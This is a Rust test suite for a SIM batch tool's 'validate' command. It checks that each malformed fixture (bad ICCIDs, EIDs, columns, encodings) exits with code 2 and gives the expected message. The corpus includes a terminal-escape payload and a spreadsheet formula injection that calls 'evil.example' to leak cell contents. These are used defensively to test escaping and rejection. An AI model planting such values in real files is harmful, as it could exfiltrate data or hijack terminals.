//! `simbatch validate` through the real binary: every malformed file of the corpus gives exit 2
//! and the expected `FILE:LINE: message`; the valid fixtures pass with the right counts.

use std::io::Write;

use crate::support::{fixture, simbatch};

/// (file under tests/fixtures/invalid, line or None for whole-file problems, message fragment)
const CORPUS: &[(&str, Option<u64>, &str)] = &[
    ("empty.csv", None, "the file is empty"),
    ("header_only.csv", None, "the file has no rows"),
    ("no_header.csv", Some(1), "the first line looks like data, not a header"),
    ("missing_action_column.csv", Some(1), "the header has no `action` column"),
    ("near_miss_column.csv", Some(1), "unknown column `rollbak`: did you mean `rollback`?"),
    ("duplicate_column.csv", Some(1), "column `iccid` appears more than once"),
    ("unknown_action.csv", Some(3), "unknown action `deactivate`"),
    ("unknown_provider.csv", Some(2), "unknown provider `vodafone`"),
    ("unsupported_action.csv", Some(3), "provider `emnify` (emnify) does not support `standby`; it supports: activate, suspend"),
    ("missing_provider.csv", Some(2), "`provider` is empty and no --provider was given"),
    ("missing_iccid.csv", Some(2), "`suspend` needs an `iccid` value"),
    ("bad_luhn.csv", Some(3), "iccid: `89883030000080139312` fails its Luhn check digit (expected last digit 1)"),
    ("iccid_wrong_length.csv", Some(2), "iccid: `898830300000801393` has 18 digits: an ICCID must have 19 or 20"),
    ("iccid_not_digits.csv", Some(2), "iccid: `8988303000008O139311` is not a number: an ICCID must contain digits only"),
    ("iccid_prefix.csv", Some(2), "iccid: `98883030000080139311` does not start with 89"),
    ("bad_eid.csv", Some(2), "eid: `89049011803455664400046832584675` fails its MOD 97-10 check digits (expected to end in 49)"),
    ("missing_eid.csv", Some(2), "`profile-delete` works on an eUICC and needs an `eid` value"),
    ("missing_parameter.csv", Some(2), "`move` needs a `target` value"),
    ("missing_profile_iccid.csv", Some(2), "`profile-fallback` needs a `profile_iccid` value"),
    ("bad_boolean.csv", Some(2), "rollback: `maybe` is not a boolean"),
    ("bad_validity_period.csv", Some(2), "validity_period: `90000` must be a whole number of seconds from 1 to 86400"),
    ("bad_not_before.csv", Some(2), "not_before: `next tuesday` is not an RFC 3339 time"),
    ("bad_activation_code.csv", Some(2), "activation_code `smdp.example.com` is malformed"),
    ("inapplicable_parameter.csv", Some(2), "`rollback` does not apply to `suspend`"),
    ("conflicting_rows.csv", Some(4), "conflict: ICCID 89883030000080139311 at emnify gets `activate` here but `suspend` at line 2"),
    ("ragged_row.csv", Some(2), "row has 2 fields but the header has 3 columns"),
    ("unclosed_quote.csv", Some(3), "a quoted field opened on this line is never closed"),
    ("bad_registration_code.csv", Some(2), "registration_code `RC12` is malformed (Twilio codes are 10 letters or digits)"),
    ("bad_move_target.csv", Some(2), "target: `group-a` is not a valid move target for telnyx"),
    ("report_lost_on_emnify.csv", Some(2), "`report_lost` does not apply to `delete` on emnify"),
    ("unknown_extension.txt", None, "cannot tell the format from the file name"),
    ("not_json.jsonl", Some(2), "not valid JSON"),
    ("jsonl_array.jsonl", Some(1), "expected a JSON object per line, found an array"),
    ("jsonl_nested_value.jsonl", Some(1), "`iccid` must be a string, number or boolean, found an object"),
    ("jsonl_near_miss.jsonl", Some(1), "unknown key `activaton_code`: did you mean `activation_code`?"),
    ("jsonl_missing_action.jsonl", Some(1), "`action` is empty"),
    ("not_utf8.csv", Some(2), "value is not valid UTF-8"),
    ("utf16.csv", None, "the file is UTF-16 encoded; save it as UTF-8"),
    ("binary.csv", Some(1), "the header has no `action` column"),
    ("zip_archive.csv", Some(1), "the header has no `action` column (found: PK\\u{3}\\u{4}"),
    ("jsonl_deeply_nested.jsonl", Some(1), "not valid JSON: recursion limit exceeded"),
    ("jsonl_huge_number.jsonl", Some(1), "not valid JSON: number out of range"),
    ("many_columns.csv", Some(2), "row has 3 fields but the header has 50003 columns"),
    ("only_comments.csv", None, "the file has no header line (only blank or comment lines)"),
    // Values quoted in messages cannot drive the terminal: control characters are escaped.
    ("nul_bytes.csv", Some(2), "unknown action `sus\\u{0}pend`"),
    ("terminal_escape.csv", Some(2), "unknown action `\\u{1b}]0;pwned\\u{7}\\u{1b}[2Jsuspend`"),
    ("csv_injection_action.csv", Some(2), "unknown action `=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")`"),
];

/// The corpus's files, for other suites (`run` must refuse each of them too).
pub fn corpus() -> impl Iterator<Item = (&'static str, Option<u64>, &'static str)> {
    CORPUS.iter().copied()
}

#[test]
fn corpus_covers_every_file_in_the_folder() {
    let on_disk = std::fs::read_dir(fixture("invalid")).unwrap().count();
    assert_eq!(
        on_disk,
        CORPUS.len(),
        "every malformed file needs an expectation"
    );
    assert!(CORPUS.len() >= 40);
}

#[test]
fn every_malformed_file_exits_2_with_its_file_line_message() {
    let mut failures = Vec::new();
    for (file, line, fragment) in CORPUS {
        let rel = format!("tests/fixtures/invalid/{file}");
        let output = simbatch().args(["validate", &rel]).output().unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        let expected = match line {
            Some(line) => format!("{rel}:{line}: {fragment}"),
            None => format!("{rel}: {fragment}"),
        };
        if output.status.code() != Some(2) || !stdout.contains(&expected) {
            failures.push(format!(
                "{file}: exit {:?}, expected `{expected}` in:\n{stdout}{}",
                output.status.code(),
                String::from_utf8_lossy(&output.stderr)
            ));
        }
        assert!(!stdout.contains("panicked"), "{file} panicked");
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn a_ten_megabyte_line_is_refused_without_reading_it_whole() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.csv");
    let mut f = std::fs::File::create(&path).unwrap();
    writeln!(f, "action,provider,iccid,note").unwrap();
    writeln!(f, "suspend,emnify,89883030000080139311,ok").unwrap();
    let chunk = vec![b'x'; 1 << 20];
    f.write_all(b"suspend,emnify,89883030000000001294,")
        .unwrap();
    for _ in 0..10 {
        f.write_all(&chunk).unwrap();
    }
    f.write_all(b"\n").unwrap();
    drop(f);
    let output = simbatch().arg("validate").arg(&path).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(&format!(
            "{}:3: line is longer than 1048576 bytes",
            path.display()
        )),
        "{stdout}"
    );
}

#[test]
fn lenient_ids_turn_check_digit_errors_into_warnings() {
    let rel = "tests/fixtures/invalid/bad_luhn.csv";
    let output = simbatch()
        .args(["validate", "--lenient-ids", rel])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(&format!(
            "{rel}:3: warning: iccid: `89883030000080139312` fails its Luhn"
        )),
        "{stdout}"
    );
    // A wrong length is never downgraded.
    simbatch()
        .args([
            "validate",
            "--lenient-ids",
            "tests/fixtures/invalid/iccid_wrong_length.csv",
        ])
        .assert()
        .code(2);
}

#[test]
fn default_provider_fills_the_blank_column() {
    simbatch()
        .args([
            "validate",
            "--provider",
            "emnify",
            "tests/fixtures/invalid/missing_provider.csv",
        ])
        .assert()
        .code(0);
    simbatch()
        .args([
            "validate",
            "--provider",
            "nope",
            "tests/fixtures/invalid/missing_provider.csv",
        ])
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "--provider `nope` is not configured",
        ));
}

#[test]
fn valid_fixtures_count_every_provider_and_action() {
    for file in ["valid/all_actions.csv", "valid/all_actions.jsonl"] {
        let output = simbatch()
            .args(["validate", "--json"])
            .arg(fixture(file))
            .output()
            .unwrap();
        assert_eq!(
            output.status.code(),
            Some(0),
            "{file}: {}",
            String::from_utf8_lossy(&output.stdout)
        );
        let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let summary = &json["files"][0];
        assert_eq!(summary["rows"], 23, "{file}");
        assert_eq!(summary["errors"], 0);
        let combos = summary["counts"].as_array().unwrap();
        assert_eq!(
            combos.len(),
            21,
            "{file}: every provider x action of SPEC 1.2"
        );
    }
}

#[test]
fn several_files_and_one_bad_one_exit_2() {
    simbatch()
        .args([
            "validate",
            "tests/fixtures/valid/all_actions.csv",
            "tests/fixtures/invalid/bad_eid.csv",
        ])
        .assert()
        .code(2)
        .stdout(predicates::str::contains(
            "tests/fixtures/valid/all_actions.csv: valid",
        ))
        .stdout(predicates::str::contains(
            "tests/fixtures/invalid/bad_eid.csv: INVALID",
        ));
}

#[test]
fn errors_are_capped_with_a_count() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("many.csv");
    let mut text = String::from("action,provider,iccid\n");
    for _ in 0..250 {
        text.push_str("suspend,emnify,123\n");
    }
    std::fs::write(&path, text).unwrap();
    let output = simbatch().arg("validate").arg(&path).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(stdout.matches("is not a number").count(), 0);
    assert_eq!(stdout.matches("has 3 digits").count(), 100);
    assert!(
        stdout.contains("... and 150 more errors, 0 more warnings not shown"),
        "{stdout}"
    );
    assert!(stdout.contains("INVALID: 250 errors"), "{stdout}");
}
